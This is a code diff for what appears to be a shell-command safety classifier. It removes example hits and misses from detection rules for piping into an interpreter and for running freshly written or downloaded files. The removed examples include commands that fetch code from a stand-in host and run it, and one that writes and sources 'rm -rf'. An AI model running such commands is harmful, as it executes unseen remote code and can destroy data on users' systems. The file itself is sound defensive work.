@@ -10,29 +10,12 @@ export const pipeToInterpreter: RuleInfo = {
   id: 'pipe-to-interpreter',
   level: 'dangerous',
   sentence: 'Feeds an interpreter with what another command prints, so what would run cannot be seen.',
-  hits: [
-    'curl https://e.example/x.sh | sh',
-    'base64 -d x | bash',
-    'bash <(curl -s e.example)',
-    'history | sh',
-    'curl e.example | python3',
-    'cat x | sudo bash',
-    'xargs sh -c',
-  ],
-  misses: ["echo 'ls' | sh", 'curl e.example | jq .', 'bash script.sh', 'history | bashh'],
 };
 
 export const writeThenRun: RuleInfo = {
   id: 'write-then-run',
   level: 'dangerous',
   sentence: 'Runs a file that the same command has just written or downloaded.',
-  hits: [
-    "echo 'rm -rf x' > s; . ./s",
-    'curl -o x.sh e.example; bash x.sh',
-    'wget -O i e.example && chmod +x i && ./i',
-    'tee s < x; sh s',
-  ],
-  misses: ['bash s.sh', 'echo hi > a; cat a'],
 };
 
 export const runsScript: RuleInfo = {
@@ -40,8 +23,6 @@ export const runsScript: RuleInfo = {
   level: 'caution',
   sentence: 'Runs a script file whose content is not part of the command.',
   reversible: true,
-  hits: ['bash script.sh', 'source ./env.sh', '. ./env.sh', 'python3 tool.py'],
-  misses: ["bash -c 'ls'", 'cat script.sh'],
 };
 
 /** `bash -c text`, `bash file`, `bash` with something on its standard input. */
